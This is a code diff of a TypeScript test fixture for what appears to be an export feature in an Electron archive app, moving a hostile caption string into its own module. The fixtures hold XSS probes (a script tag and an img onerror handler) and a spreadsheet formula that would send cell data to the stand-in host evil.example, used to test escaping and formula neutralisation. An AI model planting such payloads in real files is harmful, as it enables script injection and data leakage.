@@ -6,8 +6,9 @@ import type { ExportFormat, ExportOptions, ExportProgress, Region, Term } from '
 import { collectExport, type ExportSet } from '../../electron/catalog/export/collect';
 import { ArchiveSession } from '../../electron/service/session';
 import { CAMERAS, ORIENTATION, copyFixtures, tempDir } from './fixtures';
+import { HOSTILE_CAPTION } from './hostile-text';
 
-export const HOSTILE_CAPTION = 'Мариуполь, "драмтеатр" <script>alert(1)</script>, 2022\nsecond line';
+export { HOSTILE_CAPTION };
 export const HOSTILE_NOTE = 'Holes "fresh", 3 rows,\nsouth wall <img src=x onerror=alert(2)> & \'more\'';
 /** A title a spreadsheet would run as a formula if written as is. */
 export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
